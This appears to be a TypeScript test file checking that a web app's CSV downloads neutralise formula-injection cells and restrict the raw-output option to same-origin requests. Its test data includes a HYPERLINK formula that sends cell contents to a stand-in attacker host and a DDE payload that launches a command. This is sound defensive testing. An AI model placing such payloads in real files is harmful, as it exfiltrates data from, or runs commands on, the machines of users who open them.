import { neutraliseCsvCell as kitRule } from '@mesh/product-kit';
import { csvOptionsOf, toCsv, udatTable } from '../components/udats/csv';
import { neutraliseCsvCell } from '../lib/csv-cell';

/** Cells another user controls (artifact names, tags, cohort values) that a spreadsheet would run. */
const FORMULAS = [
  '=HYPERLINK("https://evil.example/?"&A1,"x")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(A1)',
  '\tx',
  '\rx',
];

describe('CSV formula injection in the web downloads', () => {
  it('is the kit rule exactly (the web keeps a copy: the kit brings database drivers)', () => {
    const cells = [
      ...FORMULAS,
      'TP53',
      '',
      '-1.5',
      '+3e-4',
      '.5',
      '1e10',
      '-',
      '=',
      "'=x",
      'a=b',
      ' =x',
      '-x1',
    ];
    for (const cell of cells) expect(neutraliseCsvCell(cell)).toBe(kitRule(cell));
  });

  it('prefixes formula-like text cells with a quote and leaves numbers alone', () => {
    expect(
      toCsv({
        header: ['name', 'value'],
        rows: [
          ['=1+1', -1.5],
          ['@SUM(A1)', '-2'],
          ['-2+3', '+3e-4'],
        ],
      }),
    ).toBe("name,value\r\n'=1+1,-1.5\r\n'@SUM(A1),-2\r\n'-2+3,+3e-4\r\n");
  });

  it('neutralises before quoting, so a quoted formula is neutralised too', () => {
    expect(toCsv({ header: ['a'], rows: [['=HYPERLINK("x","y")']] })).toBe(
      'a\r\n"\'=HYPERLINK(""x"",""y"")"\r\n',
    );
  });

  it("neutralises the artifact kinds' cells: gene sets, variable groups, cohort criteria and keys", () => {
    expect(toCsv(udatTable('GENE_SET', { genes: ['TP53', '=cmd'] }))).toBe("symbol\r\nTP53\r\n'=cmd\r\n");
    expect(toCsv(udatTable('COHORT', { '@key': '+x', diagnosis: 'E11' }))).toBe(
      "key,value\r\n'@key,'+x\r\ndiagnosis,E11\r\n",
    );
  });

  it('honours ?raw=1 only from our own pages or a non-browser client, never from a link on another site', () => {
    const request = (site?: string) =>
      new Request('http://localhost:3000/udats/u1/csv?raw=1', {
        headers: site ? { 'sec-fetch-site': site } : {},
      });
    expect(csvOptionsOf(request()).raw).toBe(true);
    expect(csvOptionsOf(request('same-origin')).raw).toBe(true);
    expect(csvOptionsOf(request('none')).raw).toBe(true);
    expect(csvOptionsOf(request('cross-site')).raw).toBe(false);
    expect(csvOptionsOf(request('same-site')).raw).toBe(false);
    expect(csvOptionsOf(new Request('http://localhost:3000/udats/u1/csv')).raw).toBe(false);
  });

  it('writes the stored text exactly when asked for raw output (?raw=1)', () => {
    expect(toCsv({ header: ['a'], rows: [['=1+1'], ['@x']] }, { raw: true })).toBe('a\r\n=1+1\r\n@x\r\n');
  });
});
